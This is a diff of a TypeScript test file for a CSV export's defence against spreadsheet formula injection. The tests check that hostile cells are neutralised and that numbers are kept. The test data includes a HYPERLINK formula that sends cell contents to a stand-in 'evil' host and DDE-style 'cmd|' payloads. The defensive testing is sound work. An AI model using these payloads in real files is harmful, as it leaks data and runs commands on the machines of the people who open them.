@@ -1,15 +1,136 @@
-import { describe, expect, it } from 'bun:test'
+import { afterAll, beforeAll, describe, expect, it } from 'bun:test'
 import Papa from 'papaparse'
-import { unparsePage } from './export.ts'
+import { migrations } from '../../schema/analytics/migrations.ts'
+import { type TransactionEvent, topics } from '../../schema/events.ts'
+import { newId } from '../kernel/ids.ts'
+import { createTestKit, type TestKit } from '../kernel/testing.ts'
+import { subscribeTransactions } from './events.ts'
+import { neutraliseCell, unparsePage } from './export.ts'
+import { createAnalyticsApp } from './routes.ts'
 
 describe('CSV pages', () => {
-  it('writes exactly what Papa.unparse writes, quoting included', () => {
+  it('writes exactly what Papa.unparse writes for the neutralised cells, quoting included', () => {
     const rows = [
       ['txn_1', '2026-01-01T00:00:00.000Z', 12.5, 'in', 'Ann, Ltd', null, 'say "hi"', 'R1', null],
       ['txn_2', '2026-01-01T00:00:00.000Z', 0.01, 'out', ' lead', 'tail ', 'line\nbreak', '', 3],
       ['txn_3', '2026-01-01T00:00:00.000Z', 100, 'in', '=SUM(A1)', '+2547', 'plain', 'R3', 0.9],
       ['txn_4', '2026-01-01T00:00:00.000Z', 7, 'in', 'cr\r', '\ufeffbom', 'ok', undefined, true],
+      ['txn_5', '2026-01-01T00:00:00.000Z', -500, 'out', '@SUM(1)', '-2+3', '\tx', '\rx', -1],
     ]
-    expect(unparsePage(rows)).toBe(`${Papa.unparse(rows, { header: false })}\r\n`)
+    expect(unparsePage(rows)).toBe(
+      `${Papa.unparse(
+        rows.map((r) => r.map(neutraliseCell)),
+        { header: false },
+      )}\r\n`,
+    )
+  })
+
+  it('neutralises text a spreadsheet would run, and keeps numbers and plain numeric text', () => {
+    for (const text of [
+      '=HYPERLINK("http://evil","x")',
+      '+cmd',
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      '  =1+1',
+      '\uff1d1+1',
+    ])
+      expect(neutraliseCell(text)).toBe(`'${text}`)
+    for (const kept of [-500, -500.25, 0, '-500.00', '+254712345678', '1e5', 'Ann', '', null])
+      expect(neutraliseCell(kept)).toBe(kept)
+  })
+})
+
+describe('CSV export read back', () => {
+  let kit: TestKit
+  let app: ReturnType<typeof createAnalyticsApp>
+  const base: TransactionEvent = {
+    transaction_id: 't',
+    occurred_at: '2026-03-10T10:00:00Z',
+    amount: 500,
+    direction: 'out',
+    counterparty_name: 'Ann',
+    counterparty_phone: '254700000001',
+    description: 'rent',
+    receipt_number: 'R1',
+    balance: -500,
+    source: 'api',
+    user_id: 'usr_a',
+    category: 'Rent',
+    category_confidence: 0.9,
+    category_source: 'rule',
+    rule_id: null,
+  }
+  const hostile: Record<string, Partial<TransactionEvent>> = {
+    t1: { counterparty_name: '=HYPERLINK("http://evil.test/?"&A1,"Click")' },
+    t2: { counterparty_name: "@SUM(1+1)*cmd|' /C calc'!A0", description: '+1+1' },
+    t3: { counterparty_name: '-2+3', description: '\t=1', receipt_number: '\r=2' },
+    t4: { counterparty_name: 'Plain', counterparty_phone: '+254700000004', amount: 1234.5 },
+  }
+
+  beforeAll(async () => {
+    kit = await createTestKit('analytics', { migrations })
+    kit.ctx.clock.set('2026-03-29T12:00:00Z')
+    app = createAnalyticsApp(kit.ctx)
+    await subscribeTransactions(kit.ctx)
+    await kit.bus.publish(topics.transactionsCategorized, {
+      id: newId('evt'),
+      type: topics.transactionsCategorized,
+      version: 1,
+      tenant_id: 'acme',
+      occurred_at: new Date().toISOString(),
+      data: {
+        transactions: Object.entries(hostile).map(([id, over]) => ({
+          ...base,
+          transaction_id: id,
+          ...over,
+        })),
+      },
+    })
+  })
+  afterAll(() => kit.cleanup())
+
+  it('reads back with papaparse as quoted text for formula cells and real numbers for amounts', async () => {
+    const res = await app.handle(
+      new Request('http://localhost/api/v1/analytics/export?format=csv', {
+        headers: await kit.authFor({ tenantId: 'acme', role: 'Analyst' }),
+      }),
+    )
+    expect(res.status).toBe(200)
+    const parsed = Papa.parse<Record<string, unknown>>(await res.text(), {
+      header: true,
+      skipEmptyLines: true,
+      dynamicTyping: true,
+    })
+    expect(parsed.errors).toEqual([])
+    const byId = new Map(parsed.data.map((r) => [r.id as string, r]))
+    const { t1, t2, t3, t4 } = Object.fromEntries(
+      Object.keys(hostile).map((id) => [id, byId.get(id)!]),
+    ) as Record<string, Record<string, unknown>>
+    expect(t1).toMatchObject({
+      counterparty_name: `'${hostile.t1!.counterparty_name}`,
+      amount: 500,
+      // A negative balance is a real number, not neutralised text.
+      balance: -500,
+    })
+    expect(t2).toMatchObject({
+      counterparty_name: `'${hostile.t2!.counterparty_name}`,
+      description: "'+1+1",
+    })
+    expect(t3).toMatchObject({
+      counterparty_name: "'-2+3",
+      description: "'\t=1",
+      receipt_number: "'\r=2",
+    })
+    expect(t4).toMatchObject({ counterparty_name: 'Plain', amount: 1234.5 })
+    // Text that is only a number cannot run: an international phone number stays as stored.
+    expect(t4!.counterparty_phone).toBe('+254700000004')
+    for (const row of parsed.data) {
+      expect(typeof row.amount).toBe('number')
+      for (const v of Object.values(row))
+        if (typeof v === 'string' && !/^[+-]?\d+(\.\d+)?$/.test(v))
+          expect(v).not.toMatch(/^[=+\-@\t\r]/)
+    }
   })
 })
